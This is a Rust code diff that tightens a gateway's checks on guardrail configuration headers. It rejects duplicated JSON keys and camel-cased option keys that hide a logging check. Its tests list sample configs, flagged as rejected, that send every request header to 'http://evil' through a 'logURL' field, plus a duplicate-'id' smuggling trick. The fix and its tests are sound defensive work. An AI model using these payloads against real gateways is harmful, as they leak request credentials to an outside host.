@@ -55,6 +55,10 @@ pub(super) fn guardrail_headers(inputs: &Inputs<'_>, settings: &Settings) -> Res
         let Some(value) = value else { continue };
         let node =
             Node::parse(value).ok_or_else(|| PlanError::InvalidConfig { reason: format!("{name} holds no JSON") })?;
+        if node.doubled_key().is_some() {
+            // Of two `id` the gateway takes the last.
+            return Err(PlanError::InvalidConfig { reason: format!("{name} spells a key twice") });
+        }
         if !are_guardrails_allowed(&node, settings) {
             return Err(not_allowed(name.as_str()));
         }
@@ -121,15 +125,13 @@ fn are_guardrails_allowed(list: &Node<'_>, settings: &Settings) -> bool {
     let Some(guardrails) = list.items() else { return matches!(list, Node::Null) };
     guardrails.iter().all(|guardrail| match guardrail {
         Node::Text(id) => is_check_allowed(id, settings),
-        Node::Map(members) => {
-            members.iter().filter(|(key, _)| !GUARDRAIL_OPTIONS.contains(&&**key)).all(|(key, parameters)| {
-                match parameters.member("id") {
-                    None => is_check_allowed(key, settings),
-                    Some(Node::Text(id)) => is_check_allowed(id, settings),
-                    Some(Node::Null | Node::Bool(_) | Node::Number(_) | Node::List(_) | Node::Map(_)) => false,
-                }
-            })
-        }
+        // An option whose name the gateway has camel-cased is a check to it (in mutators `on_fail` is read as `onFail`), so
+        // the `id` inside one counts as well.
+        Node::Map(members) => members.iter().all(|(key, parameters)| match parameters.member("id") {
+            None => GUARDRAIL_OPTIONS.contains(&&**key) || is_check_allowed(key, settings),
+            Some(Node::Text(id)) => is_check_allowed(id, settings),
+            Some(Node::Null | Node::Bool(_) | Node::Number(_) | Node::List(_) | Node::Map(_)) => false,
+        }),
         Node::Null | Node::Bool(_) | Node::Number(_) | Node::List(_) => false,
     })
 }
@@ -241,10 +243,36 @@ mod tests {
             (r#"{"after_request_hooks":[{"checks":[{"id":["default.log"]}]}]}"#, false),
             (r#"{"after_request_hooks":[{"checks":[{"i_d":"x"}]}]}"#, false),
             (r#"{"targets":[{"targets":[{"output_guardrails":[{"default.validUrls":{}}]}]}]}"#, false),
+            // Measured on 1.15.2: each of these posted every header of the request.
+            (r#"{"input_mutators":[{"on_fail":{"id":"default.log","logURL":"http://evil"}}]}"#, false),
+            (r#"{"output_mutators":[{"on_success":{"id":"default.log","logURL":"http://evil"}}]}"#, false),
+            (r#"{"input_mutators":[{"guardrail_version_id":{"id":"default.log"}}]}"#, false),
+            (r#"{"inputGuardrails":[{"on_fail":{"id":"default.log","logURL":"http://evil"}}]}"#, false),
+            (
+                r#"{"input_guardrails":[{"default.contains":{},"on_fail":{"feedback":{"value":-5}},"id":"g","type":"guardrail"}]}"#,
+                true,
+            ),
             (r#"{"anything":{"my_guardrails":[{"portkey.pii":{}}]}}"#, false),
         ] {
             let node = Node::parse(config).unwrap();
             assert_eq!(checks(&node, &settings()).is_ok(), allowed, "{config}");
+        }
+    }
+
+    #[test]
+    fn guardrails_in_headers_spell_a_key_once() {
+        for (value, allowed) in [
+            (r#"[{"default.contains":{"words":["a"]}}]"#, true),
+            (r#"[{"default.log":{"logURL":"http://evil"}}]"#, false),
+            (r#"[{"default.contains":{"id":"default.contains","id":"default.log","logURL":"http://evil"}}]"#, false),
+            (r#"[{"default.contains":{"words":[]},"default.contains":{"id":"default.log"}}]"#, false),
+            ("[", false),
+        ] {
+            for name in [INPUT_GUARDRAILS, OUTPUT_GUARDRAILS] {
+                let headers = http::HeaderMap::from_iter([(name, value.parse().unwrap())]);
+                let inputs = Inputs::read(&headers).unwrap();
+                assert_eq!(guardrail_headers(&inputs, &settings()).is_ok(), allowed, "{value}");
+            }
         }
     }
 
